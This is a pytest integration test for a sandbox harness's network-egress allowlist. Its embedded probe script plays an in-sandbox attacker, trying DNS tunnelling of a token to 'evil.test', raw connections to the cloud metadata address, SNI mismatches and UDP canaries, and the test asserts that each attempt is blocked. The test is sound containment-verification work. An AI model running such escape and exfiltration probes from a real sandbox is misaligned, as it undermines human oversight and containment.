"""Where the harness is not root, an ``allowlist`` phase reaches its listed hosts alone.

Neither a member of the ``docker`` group driving the rootful engine nor the rootless
engine's own user can install the host egress filter, so a trial's ``allowlist`` phase is
enforced in the trial's own network namespace: its chain reaches loopback alone, where the
namespace's holder relays the egress proxy and its DNS responder, which the harness serves
on unix sockets only the holder mounts (:mod:`sandbox.docker.trial_network`).

The harness's docker backend runs as that user (its own venv, ``support.users``), one
trial with an ``allowlist`` agent phase (``pub.test``, ``*.pub.test``) and a ``public``
verifier, the names pinned to a network namespace the test makes (``support.netns``:
HTTP on 80, TLS on 443 recording each SNI, plain TCP and UDP on 8443, DNS on 53). The agent
attacks from inside: the listed host by HTTP and HTTPS through the proxy its environment
names; an unlisted host, the listed host's raw IP, a mismatched SNI, the host's own
listener through the proxy; DNS for an unlisted name and DNS tunnelling through the
namespace's resolver, by UDP and TCP, and straight to an outside resolver; raw TCP and UDP
to the public host, the gateway, the host's address and the metadata address, past the
proxy. Judged from outside: what the servers and the host's listener saw, the trial's
``network_refused`` events, the record's egress, and that the host's firewall holds none
of its rules and no proxy socket is left.
"""

from __future__ import annotations

import json
import os
import secrets
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.ci_image import ci_python, ci_workdir
from support.net import Listener, primary_addresses
from support.netns import PublicNet
from support.probes import PROXY_CLIENT
from support.users import (
    ROOTLESS_USER,
    UserHarness,
    docker_group_user,
    rootless_engine,
    user_harness,
)

pytestmark = [pytest.mark.docker, pytest.mark.root]

ROOTFUL_HOST = "unix:///var/run/docker.sock"
METADATA = "169.254.169.254"
TXT = 16

#: Runs in the trial: every attempt's outcome as one JSON line.
PROBE = (
    PROXY_CLIENT
    + r"""
import socket
out, public = {}, os.environ["PUB"]
token, hport, TXT = os.environ["TOKEN"], int(os.environ["HPORT"]), 16
hosts = json.loads(os.environ["HOSTS"])
out["env"] = {k: os.environ.get(k) for k in ("HTTP_PROXY", "https_proxy", "NO_PROXY")}
def resolve(name):
    try:
        return sorted({a[4][0] for a in socket.getaddrinfo(name, 80, socket.AF_INET)})
    except socket.gaierror as exc:
        return "gaierror %s" % exc.errno
resolver = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
out["resolver"] = resolver
checks = {
    "dns-listed": lambda: resolve("pub.test"),
    "dns-unlisted": lambda: resolve("evil.test"),
}
if os.environ.get("ROLE") == "verifier":
    checks["dns-outside-control"] = lambda: dns(os.environ["ROUTED"], "%s.ctl.test" % token, TXT)
else:
    checks.update({
        "http": lambda: get("http://pub.test/"),
        "http-wildcard": lambda: get("http://www.pub.test/"),
        "https": lambda: tunnel("pub.test:443", "pub.test"),
        "http-unlisted": lambda: get("http://evil.test/"),
        "http-raw-ip": lambda: get("http://%s/" % public),
        "https-raw-ip": lambda: tunnel("%s:443" % public, "pub.test"),
        "https-unlisted": lambda: tunnel("evil.test:443", "evil.test"),
        "https-sni-mismatch": lambda: tunnel("pub.test:443", "evil.test"),
        "tcp-dns-listed": lambda: tcp_dns(resolver, "pub.test"),
        "tcp-dns-unlisted": lambda: tcp_dns(resolver, "evil.test"),
        "tunnel-txt-unlisted": lambda: dns(resolver, "%s.evil.test" % token, TXT),
        "tunnel-tcp-unlisted": lambda: dns(resolver, "%s.evil.test" % token, TXT, True),
        "outside-dns-udp": lambda: dns(public, "%s.out.evil.test" % token, TXT),
        "outside-dns-tcp": lambda: dns(public, "%s.out.evil.test" % token, TXT, True),
        "raw-public-80": lambda: raw(public, 80),
        "raw-public-8443": lambda: raw(public, 8443),
        "raw-metadata": lambda: raw(os.environ["META"], 80),
    })
    for name, host in hosts.items():
        checks["http-" + name] = lambda host=host: get("http://%s:%d/" % (host, hport))
        checks["raw-" + name] = lambda host=host: raw(host, hport)
    for host, p in [(public, 8443)] + [(h, hport) for h in hosts.values()]:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            u.sendto(("UDP-CANARY" + token).encode(), (host, p))
        except OSError:  # the namespace's rule rejects it where it is sent
            pass
        u.close()
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(len(checks)) as pool:
    futures = {label: pool.submit(check) for label, check in checks.items()}
out.update({label: future.result() for label, future in futures.items()})
print(json.dumps(out))
"""
)

#: Runs as the user, on the harness of its own venv: one trial through the docker backend
#: (the CLI has no way to pin a name, which the proxy's attacks need), its phases' reports,
#: events and facts as one JSON line.
DRIVER = r"""
import json, secrets, sys
import docker
from sandbox.backend import PhaseRequest, SandboxSpec
from sandbox.docker.backend import DockerSandbox
from sandbox.docker.images import ImageResolver
from sandbox.docker.runtime import DockerRuntime
from sandbox.environment import FIXED_PATH
from sandbox.network_policy import NetworkPolicy

config = json.load(sys.stdin)
client = docker.from_env(timeout=300)
runtime = DockerRuntime(client, ImageResolver(client), runtime=config["runtime"],
                        run_label="noroot-allowlist-" + secrets.token_hex(4))
runtime.egress.hosts = config["hosts"]
spec = SandboxSpec(
    trial_id="noroot-allowlist-" + secrets.token_hex(3), allow_internet=True,
    networks={"agent": NetworkPolicy(mode="allowlist", allowed_hosts=("pub.test", "*.pub.test")),
              "verifier": NetworkPolicy(mode="public")},
)
out = {"host_filter": runtime.host_filter()}
sandbox = DockerSandbox(spec, runtime)
try:
    sandbox.start()
    out["facts"] = sandbox.describe()
    for role in ("agent", "verifier"):
        env = {"PATH": FIXED_PATH, "PROBE": config["probe"], "ROLE": role, **config["env"]}
        result = sandbox.run_phase(PhaseRequest(
            role=role, argv=["bash", "-c", 'python3 -c "$PROBE"'], env=env, timeout_sec=120))
        logs = sandbox.paths.logs + "/" + role
        data, _ = sandbox.read_file(logs + ".stdout", max_bytes=1 << 16)
        errors, _ = sandbox.read_file(logs + ".stderr", max_bytes=1 << 16)
        lines = [l for l in (data or b"").decode().splitlines() if l.startswith("{")]
        out[role] = json.loads(lines[-1]) if lines else {
            "exit": result.exit_code, "stderr": (errors or b"").decode()[-2000:]}
        out[role + "_events"] = sandbox.network_events()
finally:
    sandbox.stop()
    runtime.close()
print(json.dumps(out))
"""


@pytest.fixture
def ci_dir() -> Iterator[Path]:
    with ci_workdir() as work:
        yield work


@pytest.fixture
def public_net(tmp_path: Path) -> Iterator[PublicNet]:
    with PublicNet(tmp_path) as net:
        yield net


def _drive(
    user: UserHarness | None, host: str, runtime: str | None, config: dict[str, Any], work: Path
) -> Any:
    if user is None:
        # The CI image, on a network (its harness serves the proxy and the responder).
        done = ci_python(work, DRIVER, json.dumps({**config, "runtime": runtime}))
        assert done.returncode == 0, done.stderr[-4000:]
        return json.loads(done.stdout.strip().splitlines()[-1])
    done = user.python(
        DRIVER, json.dumps({**config, "runtime": runtime}), docker_host=host, tmpdir=work / "tmp"
    )
    assert done.returncode == 0, done.stderr[-4000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def _egress_dirs(tmp: Path) -> list[str]:
    return sorted(p.name for p in tmp.glob("harness-egress-*"))


@pytest.mark.parametrize(
    ("where", "runtime"),
    [("docker-group", None), ("docker-group", "runsc"), ("rootless", None), ("ci-image", None)],
)
def test_an_allowlist_phase_without_root_reaches_only_its_listed_hosts_through_the_proxy(
    where: str, runtime: str | None, public_net: PublicNet, ci_dir: Path
) -> None:
    user: UserHarness | None = None
    if where == "rootless":
        host, user = rootless_engine(), user_harness(ROOTLESS_USER)
        gateway = "10.0.2.2"
    else:
        host, gateway = ROOTFUL_HOST, "172.17.0.1"
        if where == "docker-group":
            user = user_harness(docker_group_user())
    work = user.workdir() if user is not None else ci_dir
    ip = public_net.ip
    routed = public_net.route()
    token = secrets.token_hex(8)
    hosts = {"gateway": gateway, "host-primary": primary_addresses()["ipv4"]}
    before = public_net.seen()
    with Listener(ipv6=True) as listener:
        out = _drive(user, host, runtime, {
            "hosts": {name: [ip] for name in ("pub.test", "www.pub.test", "evil.test")},
            "probe": PROBE,
            "env": {
                "PUB": ip, "TOKEN": token, "HPORT": str(listener.port), "META": METADATA,
                "ROUTED": routed, "HOSTS": json.dumps(hosts),
            },
        }, work)  # fmt: skip
        host_got = [r for r in listener.received if token.encode() in r[2]]
    seen = public_net.seen()[len(before) :]
    agent, verifier, facts = out["agent"], out["verifier"], out["facts"]
    assert out["host_filter"] is False, out
    assert "env" in agent and "env" in verifier, out
    # The namespace's filter held, its proxy relayed on its own loopback.
    assert facts["egress"] == "namespace", facts
    assert facts["egress_proxy"] == "127.0.0.1:3128", facts
    assert agent["env"] == {
        "HTTP_PROXY": "http://127.0.0.1:3128",
        "https_proxy": "http://127.0.0.1:3128",
        "NO_PROXY": "localhost,127.0.0.1,::1",
    }, agent
    assert agent["resolver"] == "127.0.0.1", agent
    # Listed: HTTP (also under the wildcard), HTTPS with a matching SNI, DNS by UDP and TCP.
    assert agent["http"] == "PUBLIC-OK host=pub.test", agent
    assert agent["http-wildcard"] == "PUBLIC-OK host=www.pub.test", agent
    assert agent["https"] == "TLS-OK sni=pub.test", agent
    assert agent["dns-listed"] == [ip], agent
    assert agent["tcp-dns-listed"] == [0, ip], agent
    # Refused by the proxy: an unlisted host, the raw IP, the host's own listener.
    for label in ("http-unlisted", "http-raw-ip", "http-gateway", "http-host-primary"):
        assert agent[label] == "HTTP 403", (label, agent)
    for label in ("https-unlisted", "https-raw-ip"):
        assert agent[label].startswith("HTTP/1.1 403"), (label, agent)
    assert "TLS-OK" not in agent["https-sni-mismatch"], agent
    # DNS: unlisted names and tunnels are NXDOMAIN from the responder itself.
    assert isinstance(agent["dns-unlisted"], str), agent
    assert agent["tcp-dns-unlisted"] == [3, None], agent
    assert agent["tunnel-txt-unlisted"] == [3, 0], agent
    assert agent["tunnel-tcp-unlisted"] == [3, 0], agent
    # Past the proxy: nothing leaves, nor a query to an outside resolver.
    for label in ("raw-public-80", "raw-public-8443", "raw-metadata", "raw-gateway",
                  "raw-host-primary"):  # fmt: skip
        assert agent[label] != "CONNECTED", (label, agent)
    assert not isinstance(agent["outside-dns-udp"], list), agent
    assert not isinstance(agent["outside-dns-tcp"], list), agent
    # The public verifier: no proxy, every name resolves, an outside resolver answers.
    assert verifier["env"] == {"HTTP_PROXY": None, "https_proxy": None, "NO_PROXY": None}
    assert verifier["dns-listed"] == [ip] == verifier["dns-unlisted"], verifier
    assert verifier["dns-outside-control"] == [3, 0], verifier
    # From outside: the servers saw only the listed, matching requests; the DNS server
    # only the verifier's control query; the host's listener nothing.
    assert host_got == [], host_got
    assert "evil.test" not in seen and "tcp8443" not in seen and "UDP-CANARY" not in seen, seen
    assert seen.count("sni pub.test") == 1 and seen.count("tcp443") == 1, seen
    assert seen.count("Host: pub.test\\r") == 1 and seen.count("Host: www.pub.test\\r") == 1
    queries = [line for line in seen.splitlines() if line.startswith("dns ")]
    assert queries == [f"dns {token}.ctl.test type {TXT}"], seen
    # Every refusal is an event: the proxy's with their destination, the namespace's
    # counted as the allowlist chain's.
    events = out["agent_events"]
    text = " | ".join(
        f"{e['protocol']} {e.get('host') or e.get('ip') or e.get('destination')}: {e['reason']}"
        for e in events
    )
    for needle in (
        "http evil.test: the host is not listed",
        f"http {ip}: the IP is not listed",
        "tls evil.test: the ClientHello names 'evil.test', the CONNECT 'pub.test'",
        "dns evil.test: the name is not listed",
        f"dns {token}.evil.test: the name is not listed",
        f"http {gateway}: port {listener.port} is not allowed",
    ):
        assert needle in text, f"{needle!r} not in {text}"
    dropped = [e for e in events if e.get("refused") == "allowlist"]
    assert dropped and dropped[0]["filter"] == "namespace", events
    assert dropped[0]["reason"] == "allowlist phase: only the egress proxy", dropped
    assert sum(e["packets"] for e in dropped) >= 7, dropped  # 5 SYNs and 2+ datagrams
    assert all(e["phase"] == "agent" for e in events), events
    # Nothing of the trial is left: no rule on the host, no socket dir of its proxy.
    firewall = "".join(
        subprocess.run([tool], capture_output=True, text=True).stdout
        for tool in ("iptables-save", "ip6tables-save")
    )
    assert "HXN-" not in firewall
    assert _egress_dirs(work / "tmp") == [], os.listdir(work / "tmp")
